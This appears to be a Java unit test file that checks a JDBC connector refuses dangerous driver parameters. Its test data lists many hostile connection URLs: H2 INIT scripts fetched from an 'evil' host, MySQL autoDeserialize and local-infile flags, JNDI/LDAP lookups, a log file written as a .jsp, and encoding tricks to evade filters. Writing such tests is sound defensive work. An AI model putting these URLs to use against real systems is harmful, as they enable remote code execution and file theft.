package dev.headrace.connectors.jdbc.connection;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import dev.headrace.connector.config.Binding;
import dev.headrace.connector.config.Definition;
import dev.headrace.connector.config.Problem;
import dev.headrace.connectors.jdbc.testing.Settings;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class RefusingDangerousParametersTest {

  private static final Definition<ConnectionSettings> DEFINITION =
      Definition.of(ConnectionSettings.class);

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://host/db?socketFactory=org.springframework.context.support.ClassPath",
        "jdbc:postgresql://host/db?SOCKETFACTORY=x",
        "jdbc:postgresql://host/db?socket%46actory=x",
        "jdbc:postgresql://host/db?%73ocketFactory=x",
        "jdbc:postgresql://host/db?socket%2546actory=x",
        "jdbc:postgresql://host/db%3FsocketFactory=x",
        "jdbc:postgresql://host/db?ApplicationName=a&socketFactoryArg=http://evil/a.xml",
        "jdbc:postgresql://host/db?&&sslfactory=x",
        "jdbc:postgresql://host/db?sslfactoryarg=file:///etc/passwd",
        "jdbc:postgresql://host/db?sslhostnameverifier=x",
        "jdbc:postgresql://host/db?sslpasswordcallback=x",
        "jdbc:postgresql://host/db?authenticationPluginClassName=x",
        "jdbc:postgresql://host/db?xmlFactoryFactory=x",
        "jdbc:postgresql://host/db?connectExecutor=x",
        "jdbc:postgresql://host/db?connectExecutorArg=x",
        "jdbc:postgresql://host/db?classLoaderStrategy=x",
        "jdbc:postgresql://host/db?loggerLevel=TRACE&loggerFile=/tmp/x.jsp",
        "jdbc:postgresql://host/db?localSocketAddress=10.0.0.1",
        "jdbc:postgresql://host/db?service=x",
        "jdbc:postgresql:?PGHOST=evil",
        "jdbc:postgresql://host/db?jaasApplicationName=x",
        "jdbc:postgresql://host/db?replication=database",
        "jdbc:postgresql://host/db?aParameterOfTheFuture=x",
        "jdbc:PostgreSQL://host/db?socketFactory=x",
        "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://evil/a.sql'",
        "jdbc:h2:mem:a;init=CREATE ALIAS X AS 'void x(){}'",
        "jdbc:h2:mem:a;TRACE_LEVEL_SYSTEM_OUT=3;IN\\IT=RUNSCRIPT",
        "jdbc:h2:mem:a\\;INIT=RUNSCRIPT",
        "jdbc:h2:mem:a;MODE=MySQL;DATABASE_EVENT_LISTENER='x'",
        "jdbc:h2:mem:a;%49NIT=RUNSCRIPT",
        "jdbc:h2:file:./a;CIPHER=AES;TRACE_LEVEL_FILE=3",
        "jdbc:h2:mem:a;JAVA_OBJECT_SERIALIZER='x'",
        "jdbc:h2:mem:a;AUTHREALM=x",
        "jdbc:sqlite:a.db?enable_load_extension=true",
        "jdbc:sqlite:a.db?ENABLE_LOAD_EXTENSION=1",
        "jdbc:sqlite:a.db?cache=shared&enable%5Fload_extension=true",
        "jdbc:sqlite:a.db?temp_store_directory=/etc",
        "jdbc:sqlite::resource:http://evil/a.db",
        "jdbc:sqlite::RESOURCE:a.db",
        "jdbc:mysql://host/db?autoDeserialize=true",
        "jdbc:mysql://host/db?AUTODESERIALIZE=yes",
        "jdbc:mysql://host/db?auto%44eserialize=true",
        "jdbc:mysql://(host=a,autoDeserialize=true)/db",
        "jdbc:mysql://address=(host=a)(allowLoadLocalInfile=true)/db",
        "jdbc:mysql://host/db?allowLoadLocalInfile=true",
        "jdbc:mysql://host/db?allowLoadLocalInfileInPath=/",
        "jdbc:mysql://host/db?allowUrlInLocalInfile=true",
        "jdbc:mysql://host/db?queryInterceptors=x",
        "jdbc:mysql://host/db?statementInterceptors=x",
        "jdbc:mysql://host/db?detectCustomCollations=true",
        "jdbc:mysql://host/db?authenticationPlugins=x",
        "jdbc:mysql://host/db?propertiesTransform=x",
        "jdbc:mysql://host/db?trustCertificateKeyStoreUrl=http://evil/",
        "jdbc:mariadb://host/db?allowLocalInfile=true",
        "jdbc:mariadb://host/db?initSql=SELECT 1",
        "jdbc:mariadb://host/db?localSocket=/tmp/x",
        "jdbc:sqlserver://host;socketFactoryClass=x",
        "jdbc:sqlserver://host; trustManagerClass = x",
        "jdbc:oracle:thin:@ldap://evil/cn=x",
        "jdbc:oracle:thin:@host:1521/x?TNS_ADMIN=/tmp",
        "jdbc:db2://host:50000/db:clientRerouteServerListJNDIName=ldap://evil/x;",
        "jdbc:db2://host:50000/db:traceFile=/tmp/x;",
        "jdbc:derby:memory:x;create=true;restoreFrom=/tmp",
        "jdbc:jcr:jndi:ldap://evil/x",
        "jdbc:snowflake://host/?tracing=ALL&logPath=/tmp",
      })
  void refusesItInTheUrl(String url) {
    assertThat(problems(Map.of("url", url)))
        .anySatisfy(
            problem -> {
              assertThat(problem.code()).isEqualTo("jdbc.parameter-refused");
              assertThat(problem.key()).isEqualTo("url");
            });
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql:|socketFactory",
        "jdbc:postgresql:|SocketFactory",
        "jdbc:postgresql:|socket%46actory",
        "jdbc:postgresql:|loggerFile",
        "jdbc:postgresql:|sslfactory",
        "jdbc:postgresql:|PGHOST",
        "jdbc:h2:mem:a|INIT",
        "jdbc:h2:mem:a|init",
        "jdbc:h2:mem:a|TRACE_LEVEL_FILE",
        "jdbc:sqlite:a.db|enable_load_extension",
        "jdbc:sqlite:a.db|Enable_Load_Extension",
        "jdbc:mysql://host/db|autoDeserialize",
        "jdbc:mysql://host/db|ALLOWLOADLOCALINFILE",
        "jdbc:mysql://host/db|socketFactory",
      })
  void refusesItAmongTheParameters(String urlAndParameter) {
    String[] parts = urlAndParameter.split("\\|");
    assertThat(problems(Map.of("url", parts[0], "driver." + parts[1], "x")))
        .extracting(Problem::code, Problem::key)
        .contains(tuple("jdbc.parameter-refused", "driver." + parts[1]));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://host/db?password=hunter2",
        "jdbc:postgresql://host/db?user=me&PASSWORD=hunter2",
        "jdbc:h2:mem:a;PASSWORD=hunter2",
        "jdbc:mysql://host/db?password=hunter2",
        "jdbc:sqlserver://host;password=hunter2",
      })
  void sendsPasswordsToTheirOwnSettingWithoutShowingThem(String url) {
    assertThat(problems(Map.of("url", url)))
        .anySatisfy(
            problem -> assertThat(problem.next()).isEqualTo("Move its value to `password`."))
        .noneSatisfy(problem -> assertThat(problem.toString()).contains("hunter2"));
  }

  @Test
  void suggestsTheParameterThatWasMeant() {
    assertThat(problems(Map.of("url", "jdbc:postgresql:", "driver.conectTimeout", "3")))
        .extracting(Problem::next)
        .containsExactly("Remove it, or did you mean `connecttimeout`?");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://a:5432,b:5433/db?targetServerType=primary&ApplicationName=x%20y",
        "jdbc:postgresql:db",
        "jdbc:sqlite:file.db?busy_timeout=3",
        "jdbc:sqlite::memory:",
        "jdbc:h2:mem:a;DB_CLOSE_DELAY=-1;MODE=PostgreSQL",
        "jdbc:mysql://host:3306/db?useUnicode=true&characterEncoding=utf8",
        "jdbc:sqlserver://host:1433;databaseName=a;encrypt=true",
      })
  void takesWhatIsHarmless(String url) {
    assertThat(DEFINITION.bind(Map.of("url", url))).isInstanceOf(Binding.Bound.class);
  }

  private static List<Problem> problems(Map<String, String> settings) {
    return Settings.problems(ConnectionSettings.class, settings);
  }
}
